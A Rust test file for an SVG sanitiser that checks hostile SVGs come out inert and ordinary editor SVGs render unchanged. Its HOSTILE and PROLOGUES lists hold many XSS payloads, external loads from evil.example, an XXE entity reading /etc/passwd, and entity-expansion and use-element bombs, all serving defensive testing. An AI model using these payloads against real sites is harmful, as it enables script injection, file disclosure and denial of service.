//! SVGs become harmless pictures, and ordinary ones look the same as before.

use std::collections::BTreeSet;
use std::path::Path;
use std::sync::{Arc, LazyLock};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use hallway_site::pictures::svg::{Inert, SvgError, inert};
use proptest::prelude::*;
use quick_xml::events::Event;
use quick_xml::{Reader, escape};
use resvg::tiny_skia::{Pixmap, Transform};
use resvg::usvg::{Options, Tree, fontdb};

/// Elements of an SVG that run, link or load something, one or several at a time.
const HOSTILE: &[&str] = &[
    "<script>document.title='ran'</script>",
    "<script href='https://evil.example/a.js'/>",
    "<script xlink:href='data:text/javascript,document.title=1'/>",
    "<svg:script xmlns:svg='http://www.w3.org/2000/svg'>document.title='ran'</svg:script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>document.title='ran'</x:script>",
    "<html:iframe xmlns:html='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>document.title='ran'</script>",
    "<iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script>1&lt;/script>'/>",
    "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'><script>1</script></body></foreignObject>",
    "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example'/></foreignObject>",
    "<switch><foreignObject requiredExtensions='http://www.w3.org/1999/xhtml'><b/></foreignObject><g/></switch>",
    "<image xmlns:x='urn:x' x:href='data:image/png;base64,iVBORw0KGgo=' width='8' height='8'/>",
    "<g onload='document.title=1'/>",
    "<g ONLOAD='document.title=1' OnClick='1' onbegin='1' onfocusin='1' tabindex='0'/>",
    "<g xmlns:e='http://www.w3.org/2001/xml-events' e:onload='1'/>",
    "<ev:listener xmlns:ev='http://www.w3.org/2001/xml-events' event='load' handler='#a'/>",
    "<handler type='application/ecmascript'>1</handler>",
    "<a href='javascript:alert(1)'><circle r='9'/></a>",
    "<a xlink:href='&#106;avascript:alert(1)'><text>go</text></a>",
    "<text><a href='https://evil.example'>go</a></text>",
    "<a><animate attributeName='href' values='javascript:alert(1)'/><circle r='9'/></a>",
    "<set attributeName='href' to='javascript:alert(1)' xlink:href='#a'/>",
    "<set attributeName='onmouseover' to='alert(1)'/>",
    "<animate attributeName='xlink:href' values='javascript:alert(1)'/>",
    "<animate onbegin='alert(1)' attributeName='x' dur='1s'/>",
    "<animateTransform attributeName='transform' onend='1'/>",
    "<animateMotion><mpath xlink:href='https://evil.example/#a'/></animateMotion>",
    "<discard begin='0s' href='#a'/>",
    "<image href='https://evil.example/a.png' width='9' height='9'/>",
    "<image href='//evil.example/a.png' width='9' height='9'/>",
    "<image xlink:href='data:image/svg+xml;base64,PHN2Zy8+' width='9' height='9'/>",
    "<image href='data:text/html,&lt;script>1&lt;/script>' width='9' height='9'/>",
    "<image href='data:image/png;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=' width='9' height='9'/>",
    "<image href='data:image/png,&lt;svg/>' width='9' height='9'/>",
    "<use href='https://evil.example/a.svg#b'/>",
    "<use xlink:href='data:image/svg+xml;base64,PHN2Zy8+#a'/>",
    "<use href='#a' xlink:href='https://evil.example/a.svg#b'/>",
    "<use href=' javascript:alert(1)'/>",
    "<filter id='f'><feImage href='https://evil.example/a.png'/></filter>",
    "<linearGradient id='l' href='https://evil.example/a.svg#b'/>",
    "<pattern id='p' xlink:href='https://evil.example/a.svg#b'/>",
    "<textPath href='https://evil.example/a.svg#b'>a</textPath>",
    "<rect fill='url(https://evil.example/a.svg#b)'/>",
    "<rect fill='u\\72l(https://evil.example/a)'/>",
    "<rect filter=\"url('https://evil.example/a.svg#b')\" mask='url(//evil.example/#b)'/>",
    "<rect clip-path='url( data:image/svg+xml;base64,PHN2Zy8+#a )'/>",
    "<rect cursor='url(https://evil.example/a.cur), auto'/>",
    "<rect marker-start='url(&#x68;ttps://evil.example)'/>",
    "<rect style='fill:url(https://evil.example/a)'/>",
    "<rect style='background:url(javascript:alert(1))'/>",
    "<rect style='width:expression(alert(1))'/>",
    "<rect style='-moz-binding:url(https://evil.example/a.xml#b)'/>",
    "<rect style='fill:\\75 rl(https://evil.example)'/>",
    "<rect style=\"background:image-set('https://evil.example/a' 1x)\"/>",
    "<rect style='fill:red;behavior:url(#default#time2)'/>",
    "<style>@import url(https://evil.example/a.css);</style>",
    "<style>@import 'https://evil.example/a.css'; rect{fill:red}</style>",
    "<style>@\\69mport 'https://evil.example/a.css';</style>",
    "<style>@font-face{font-family:a;src:url(https://evil.example/a.woff)}</style>",
    "<style>rect{fill:url(https://evil.example/a)}</style>",
    "<style>rect{background:url('https://evil.example/a'</style>",
    "<style><![CDATA[</style><script>document.title=1</script>]]></style>",
    "<style>&lt;/style>&lt;script>1&lt;/script></style>",
    "<style media='screen{}@import url(https://evil.example)'>a{}</style>",
    "<style type='text/less'>@import 'https://evil.example';</style>",
    "<style xmlns='http://www.w3.org/1999/xhtml'>@import 'https://evil.example';</style>",
    "<link xmlns='http://www.w3.org/1999/xhtml' rel='stylesheet' href='https://evil.example'/>",
    "<meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=https://evil.example'/>",
    "<base xmlns='http://www.w3.org/1999/xhtml' href='https://evil.example'/>",
    "<g xml:base='https://evil.example/'><use href='#a'/></g>",
    "<video xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example' onerror='1'/>",
    "<audio href='https://evil.example/a.mp3'/>",
    "<embed xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example'/>",
    "<object xmlns='http://www.w3.org/1999/xhtml' data='https://evil.example'/>",
    "<form xmlns='http://www.w3.org/1999/xhtml' action='https://evil.example'><input/></form>",
    "<math xmlns='http://www.w3.org/1998/Math/MathML'><maction href='javascript:alert(1)'>a</maction></math>",
    "<title><script xmlns='http://www.w3.org/1999/xhtml'>1</script></title>",
    "<desc><img xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example' onerror='1'/></desc>",
    "<metadata><script>1</script></metadata>",
    "<?xml-stylesheet href='https://evil.example/a.css'?>",
    "<?php echo 1 ?><!-- <script>1</script> -->",
    "<color-profile name='a' xlink:href='https://evil.example/a.icc'/>",
    "<font-face-src><font-face-uri xlink:href='https://evil.example/a'/></font-face-src>",
    "<cursor id='c' xlink:href='https://evil.example/a.cur'/>",
    "<tref xlink:href='https://evil.example/a.svg#b'/>",
    "<rect fill='javascript:alert(1)'/>",
];

/// Texts before the root element.
const PROLOGUES: &[&str] = &[
    "",
    "<?xml version='1.0'?><?xml-stylesheet type='text/css' href='https://evil.example/a.css'?>",
    "<?xml-stylesheet type='text/xsl' href='data:text/xml,&lt;a/>'?>",
    "<!DOCTYPE svg [<!ENTITY e '<script>document.title=1</script>'>]>",
    "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'https://evil.example/svg11.dtd'>",
    "<!DOCTYPE svg SYSTEM 'file:///etc/passwd'>",
];

fn svg(prologue: &str, inside: &str) -> String {
    format!(
        "{prologue}<svg xmlns='http://www.w3.org/2000/svg' \
         xmlns:xlink='http://www.w3.org/1999/xlink' width='20' height='20' onload='1'>\
         <rect id='a' width='9' height='9' fill='#123'/>{inside}</svg>"
    )
}

/// Checks that a copy is harmless, with another parser than the one that made the copy.
fn assert_inert(copy: &str) {
    let forbidden = [
        "script",
        "foreignobject",
        "iframe",
        "a",
        "animate",
        "set",
        "handler",
        "feimage",
        "video",
        "audio",
        "link",
        "meta",
        "base",
        "embed",
        "object",
        "img",
        "form",
        "math",
        "animatemotion",
        "animatetransform",
        "mpath",
        "discard",
        "metadata",
        "tref",
        "cursor",
        "listener",
    ];
    let mut reader = Reader::from_str(copy);
    let mut namespaces = Vec::new();
    let mut open: Vec<String> = Vec::new();
    loop {
        let event = reader
            .read_event()
            .unwrap_or_else(|error| panic!("{error}: {copy}"));
        let (start, is_open) = match &event {
            Event::Start(start) => (start, true),
            Event::Empty(start) => (start, false),
            Event::End(_) => {
                open.pop();
                continue;
            }
            Event::Text(text) => {
                if open.last().is_some_and(|name| name == "style") {
                    assert_style(text.as_ref(), copy);
                }
                continue;
            }
            Event::GeneralRef(_) => continue,
            Event::Eof => break,
            other => panic!("{other:?} in {copy}"),
        };
        let name = start.name().as_ref().to_owned();
        assert!(!name.contains(':'), "{copy}");
        assert!(
            !forbidden.contains(&name.to_lowercase().as_str()),
            "<{name}>: {copy}"
        );
        for attribute in start.attributes() {
            let attribute = attribute.unwrap_or_else(|error| panic!("{error}: {copy}"));
            let key = attribute.key.as_ref().to_owned();
            let value = escape::unescape(&attribute.value)
                .expect("it is escaped")
                .into_owned();
            if key == "xmlns" {
                namespaces.push(value);
                continue;
            }
            assert!(
                !key.contains(':') || ["xml:space", "xml:lang"].contains(&&*key),
                "{copy}"
            );
            assert!(!key.to_lowercase().starts_with("on"), "{key}: {copy}");
            if key == "href" {
                let is_picture = ["png", "jpeg", "webp"]
                    .iter()
                    .any(|kind| value.starts_with(&format!("data:image/{kind};base64,")));
                assert!(
                    value.starts_with('#') || (name == "image" && is_picture),
                    "{copy}"
                );
            } else {
                assert_style(&value, copy);
            }
        }
        if is_open {
            open.push(name);
        }
    }
    assert_eq!(namespaces, ["http://www.w3.org/2000/svg"], "{copy}");
}

/// Where a word begins in a style. A function such as `src(` does not begin within `xsrc(`, another
/// function, or within `1pxsrc(`, where it follows a number.
fn begins<'a>(style: &'a str, word: &'a str) -> impl Iterator<Item = usize> + 'a {
    let is_longer = |before: char| before.is_alphanumeric() || before == '_';
    style
        .match_indices(word)
        .map(|(at, _)| at)
        .filter(move |at| {
            let before = style[..*at].chars().next_back();
            !word.ends_with('(') || !before.is_some_and(is_longer)
        })
}

fn assert_style(style: &str, copy: &str) {
    let style = style.to_lowercase();
    for word in [
        "javascript:",
        "expression(",
        "@import",
        "@font-face",
        "image-set(",
        "image(",
        "src(",
        "-moz-binding:",
        "behavior:",
        "evil.example",
        "data:",
        "\\",
    ] {
        assert!(begins(&style, word).next().is_none(), "{word}: {copy}");
    }
    for at in begins(&style, "url(") {
        let address = style[at + 4..].trim_start_matches(['"', '\'', ' ']);
        assert!(address.starts_with('#'), "{copy}");
    }
}

/// Makes a text harmless, and checks the result: it is always the same, and making it harmless again
/// changes nothing.
fn made(text: &str) -> Result<Inert, SvgError> {
    let copy = inert(text);
    assert_eq!(copy, inert(text), "the same every time");
    if let Ok(copy) = &copy {
        assert_inert(&copy.text);
        let again = inert(&copy.text).unwrap_or_else(|error| panic!("{error}: {}", copy.text));
        assert_eq!(again.text, copy.text, "{text}");
        assert!(again.left_out.is_empty(), "{:?}: {text}", again.left_out);
    }
    copy
}

#[test]
fn hostile_svgs_become_pictures() {
    for inside in HOSTILE {
        for prologue in PROLOGUES {
            let copy =
                made(&svg(prologue, inside)).unwrap_or_else(|error| panic!("{error}: {inside}"));
            assert!(copy.text.contains("<rect id=\"a\""), "{}", copy.text);
            assert!(
                copy.left_out.contains(&"the attribute onload".into()),
                "{inside}"
            );
        }
    }
}

#[test]
fn entities_are_what_they_stand_for_and_no_more() {
    let script = svg(PROLOGUES[3], "&e;");
    let copy = made(&script).expect("it is read");
    assert!(copy.left_out.contains(&"<script>".into()), "{copy:?}");
    let file = "<!DOCTYPE svg [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>";
    match made(&svg(file, "<text>&e;</text>")) {
        Ok(copy) => assert!(!copy.text.contains("root:"), "{}", copy.text),
        Err(error) => assert!(matches!(error, SvgError::Xml(_)), "{error}"),
    }
    let mut laughs = "<!ENTITY a0 'ha'>".to_owned();
    for at in 1..40 {
        laughs += &format!("<!ENTITY a{at} '&a{0};&a{0};&a{0};&a{0};'>", at - 1);
    }
    let refused = made(&svg(
        &format!("<!DOCTYPE svg [{laughs}]>"),
        "<text>&a39;</text>",
    ));
    assert!(matches!(refused, Err(SvgError::Xml(_))), "it ends");
}

#[test]
fn what_would_keep_a_phone_busy_is_refused() {
    let mut doubled = "<g id='g0'><rect width='1' height='1'/></g>".to_owned();
    for at in 1..40 {
        doubled += &format!(
            "<g id='g{at}'><use href='#g{0}'/><use href='#g{0}'/></g>",
            at - 1
        );
    }
    assert_eq!(made(&svg("", &doubled)), Err(SvgError::TooMuch));
    let deep = format!("{}<rect/>{}", "<g>".repeat(5000), "</g>".repeat(5000));
    assert_eq!(made(&svg("", &deep)), Err(SvgError::TooMuch));
    let circle = "<g id='b'><use href='#c'/></g><g id='c'><use href='#b'/></g>";
    made(&svg("", circle)).expect("what draws itself is not drawn");
}

#[test]
fn what_is_no_picture_is_refused_with_its_reason() {
    let only = |inside: &str| {
        made(&format!(
            "<svg xmlns='http://www.w3.org/2000/svg'>{inside}</svg>"
        ))
    };
    let empty = only("<script>1</script><foreignObject/>");
    let left_out = vec!["<foreignObject>".to_owned(), "<script>".to_owned()];
    assert_eq!(empty, Err(SvgError::Empty(left_out)));
    for text in [
        "",
        "picture",
        "<svg>",
        "<svg/>",
        "<svg xmlns='http://www.w3.org/1999/xhtml'/>",
    ] {
        assert!(
            matches!(made(text), Err(SvgError::Xml(_) | SvgError::Root)),
            "{text}"
        );
    }
    // An SVG without content is accepted, since nothing was left out.
    only("").expect("an empty picture is one");
}

#[test]
fn what_is_missed_is_said_and_what_editors_keep_is_not() {
    let inkscape = ordinary()
        .into_iter()
        .find(|(name, _)| *name == "inkscape")
        .expect("it is there");
    assert_eq!(
        made(&inkscape.1).expect("it is a picture").left_out,
        [""; 0]
    );
    let said = made(&svg(
        "",
        "<a href='https://example.org'><text>go</text></a>",
    ));
    assert_eq!(
        said.expect("it is a picture").left_out,
        ["the attribute onload", "the links of <a>"]
    );
}

/// A picture of eight by eight pixels, as SVGs embed it.
fn embedded() -> String {
    let mut pixels = Pixmap::new(8, 8).expect("it is small");
    pixels.fill(resvg::tiny_skia::Color::from_rgba8(200, 30, 90, 255));
    STANDARD.encode(pixels.encode_png().expect("it can be encoded"))
}

/// SVGs as editors write them.
fn ordinary() -> Vec<(&'static str, String)> {
    let file = |path: &str| {
        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
        std::fs::read_to_string(root.join(path)).expect("the file is there")
    };
    vec![
        ("plan", file("tests/programmes/sea-days/plans/deck.svg")),
        ("icon", file("public/icons/icon.svg")),
        ("inkscape", INKSCAPE.replace("PNG", &embedded())),
        ("illustrator", ILLUSTRATOR.into()),
        ("filters", FILTERS.into()),
        ("words", WORDS.into()),
    ]
}

const INKSCAPE: &str = r##"<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="60mm" height="40mm" viewBox="0 0 60 40" version="1.1" id="svg5" inkscape:version="1.2.2"
   sodipodi:docname="floor.svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns="http://www.w3.org/2000/svg"
   xmlns:svg="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#">
  <sodipodi:namedview id="namedview7" pagecolor="#ffffff" inkscape:zoom="0.7"><inkscape:grid type="xygrid"/></sodipodi:namedview>
  <metadata id="m"><rdf:RDF><cc:Work rdf:about=""/></rdf:RDF></metadata>
  <defs id="defs2">
    <linearGradient id="linearGradient1"><stop style="stop-color:#aa0000;stop-opacity:1" offset="0"/><stop style="stop-color:#0000aa;stop-opacity:.5" offset="1"/></linearGradient>
    <linearGradient xlink:href="#linearGradient1" id="linearGradient2" x1="0" y1="0" x2="60" y2="0" gradientUnits="userSpaceOnUse"/>
    <inkscape:path-effect effect="spiro" id="path-effect1"/>
    <clipPath id="clip"><rect x="0" y="0" width="50" height="30"/></clipPath>
  </defs>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1" clip-path="url(#clip)">
    <path style="fill:url(#linearGradient2);stroke:#000000;stroke-width:0.264583px;stroke-linecap:butt;-inkscape-stroke:none" d="M 5,5 H 45 V 25
      H 5 Z" id="path1" inkscape:connector-curvature="0" sodipodi:nodetypes="ccccc"/>
    <svg:circle cx="20" cy="15" r="4" style="fill:#ffcc00"/>
    <image width="8" height="8" x="30" y="8" preserveAspectRatio="none" xlink:href="data:image/png;base64,PNG"/>
    <text xml:space="preserve" style="font-size:4px;font-family:sans-serif;-inkscape-font-specification:'sans-serif, Normal';fill:#222222" x="8" y="22"><tspan sodipodi:role="line" x="8" y="22">Hall  1 &amp; 2</tspan></text>
  </g>
</svg>"##;

const ILLUSTRATOR: &str = r##"<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
	<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">
	<!ENTITY ns_svg "http://www.w3.org/2000/svg">
]>
<svg version="1.1" xmlns="&ns_svg;" xmlns:i="&ns_ai;" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px" viewBox="0 0 80 60" style="enable-background:new 0 0 80 60;" xml:space="preserve">
<style type="text/css">
	.st0{fill:#E8F0F8;stroke:#334455;stroke-width:2;stroke-miterlimit:10;}
	.st1,.st2 > path{fill:none;stroke:#CC3333;}
	.st3{font-family:'DejaVu Sans', sans-serif;font-size:8px;}
	/* two rules more */
	#door{fill:rgb(10, 200, 30);opacity:.6}
	text.st3{fill:#123456}
</style>
<switch><foreignObject requiredExtensions="&ns_ai;" x="0" y="0" width="1" height="1"><i:pgfRef xlink:href="#adobe_illustrator_pgf"/></foreignObject>
<g i:extraneous="self"><rect x="2" y="2" class="st0" width="70" height="50"/><g class="st2"><path d="M10,10L60,40"/></g>
<path class="st1" d="M5,50 C20,20 40,80 70,10"/><rect id="door" x="30" y="20" width="12" height="9"/><text transform="matrix(1 0 0 1 8 30)" class="st3">Foyer</text></g></switch>
</svg>"##;

const FILTERS: &str = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64" width="64" height="64">
<defs><filter id="blur" x="-20%" y="-20%" width="140%" height="140%"><feGaussianBlur in="SourceGraphic" stdDeviation="1.5" result="b"/><feOffset in="b" dx="2" dy="2"/><feMerge><feMergeNode/><feMergeNode in="SourceGraphic"/></feMerge></filter>
<pattern id="dots" width="6" height="6" patternUnits="userSpaceOnUse"><circle cx="3" cy="3" r="1.5" fill="teal"/></pattern>
<radialGradient id="r" cx="50%" cy="50%" r="60%"><stop offset="10%" stop-color="gold"/><stop offset="90%" stop-color="hsl(200, 60%, 40%)"/></radialGradient>
<mask id="m"><rect width="64" height="64" fill="url(#r)"/></mask>
<marker id="arrow" viewBox="0 0 10 10" refX="5" refY="5" markerWidth="6" markerHeight="6" orient="auto-start-reverse"><path d="M0 0L10 5L0 10z"/></marker>
<symbol id="s" viewBox="0 0 8 8"><path d="M0 8L4 0L8 8z" fill="currentColor"/></symbol></defs>
<rect width="64" height="64" fill="url(#dots)"/><g filter="url(#blur)" mask="url('#m')"><circle cx="32" cy="32" r="20" fill="url(&quot;#r&quot;)"/></g>
<polyline points="4,60 30,40 60,58" fill="none" stroke="#222" marker-end="url(#arrow)" stroke-dasharray="3 2"/>
<use href="#s" x="40" y="4" width="16" height="16" color="crimson" transform="rotate(15 48 12)"/>
</svg>"##;

const WORDS: &str = r##"<svg:svg xmlns:svg="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60" font-family="DejaVu Sans">
<svg:defs><svg:path id="arc" d="M10 50 Q60 10 110 50"/></svg:defs>
<svg:text font-size="9" xml:space="preserve"><svg:textPath xlink:href="#arc" startOffset="10%">Round   the <svg:tspan font-weight="bold" dy="2">corner</svg:tspan> &lt;1&gt;</svg:textPath></svg:text>
<svg:text x="60" y="58" text-anchor="middle" font-size="8">
  Größe &#x2192; <![CDATA[<b> & more]]>
</svg:text></svg:svg>"##;

fn picture(text: &str) -> Pixmap {
    static FONTS: LazyLock<Arc<fontdb::Database>> = LazyLock::new(|| {
        let mut fonts = fontdb::Database::new();
        fonts.load_font_data(dejavu::sans::regular().to_vec());
        fonts.load_font_data(dejavu::sans::bold().to_vec());
        fonts.set_sans_serif_family("DejaVu Sans");
        Arc::new(fonts)
    });
    let options = Options {
        fontdb: FONTS.clone(),
        font_family: "DejaVu Sans".into(),
        ..Options::default()
    };
    let tree = Tree::from_str(text, &options).unwrap_or_else(|error| panic!("{error}: {text}"));
    let size = tree.size().to_int_size();
    let mut pixels = Pixmap::new(size.width() * 2, size.height() * 2).expect("it is small");
    resvg::render(&tree, Transform::from_scale(2.0, 2.0), &mut pixels.as_mut());
    pixels
}

#[test]
fn ordinary_pictures_look_as_before() {
    for (name, text) in ordinary() {
        let copy = made(&text).unwrap_or_else(|error| panic!("{name}: {error}"));
        let (before, after) = (picture(&text), picture(&copy.text));
        let colours: BTreeSet<_> = before.data().chunks(4).collect();
        assert!(colours.len() > 2, "{name} draws something");
        assert!(before == after, "{name}: {}", copy.text);
    }
}

/// Nested fragments of what editors and attackers write.
fn pieces() -> impl Strategy<Value = String> {
    let leaf = prop_oneof![
        3 => proptest::sample::select(HOSTILE).prop_map(str::to_owned),
        1 => "[ -~äé]{0,12}".prop_map(|text| {
            text.replace(['<', '&'], "")
        }),
        2 => proptest::sample::select(&[
            "<path d='M0 0L9 9' style='fill:none;stroke:#abc'/>",
            "<text x='1'>a<tspan>b</tspan></text>",
            "<use href='#a'/>",
            "<style>.a{fill:url(#b)}</style>",
        ][..]).prop_map(str::to_owned),
    ];
    leaf.prop_recursive(4, 24, 4, |inner| {
        let around = proptest::sample::select(
            &[
                "g",
                "text",
                "a",
                "defs",
                "title",
                "style",
                "foreignObject",
                "switch",
                "script",
                "symbol",
            ][..],
        );
        (around, proptest::collection::vec(inner, 0..4))
            .prop_map(|(name, inside)| format!("<{name}>{}</{name}>", inside.concat()))
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn whatever_is_nested_comes_out_inert(inside in pieces(), prologue in proptest::sample::select(PROLOGUES)) {
        // Not every combination of fragments is well-formed XML, but most are.
        let _ = made(&svg(prologue, &inside));
    }

    #[test]
    fn whatever_a_style_says_it_loads_nothing(
        style in "(fill|src|\\\\|url|\\(|\\)|'|\"|#a|/\\*|\\*/|;|:|\\{|\\}|@import|@media| |https:|//|x\\.y|image-set|!important|<!--|-->|\n|1px|,){0,14}",
    ) {
        let escaped = style.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;");
        let _ = made(&svg("", &format!("<style>{escaped}</style>")));
        let _ = made(&svg("", &format!("<g style=\"{escaped}\" fill=\"{escaped}\"/>")));
    }

    #[test]
    fn whatever_is_damaged_ends_well(
        at in any::<proptest::sample::Index>(),
        which in any::<proptest::sample::Index>(),
        with in "[<>&;'\"/!?a-z:=\\[\\]\\-]{0,6}",
        cut in 0_usize..8,
    ) {
        let (_, text) = which.get(&ordinary()).clone();
        let mut characters: Vec<char> = text.chars().collect();
        let at = at.index(characters.len());
        let end = (at + cut).min(characters.len());
        characters.splice(at..end, with.chars());
        let _ = made(&characters.into_iter().collect::<String>());
    }
}
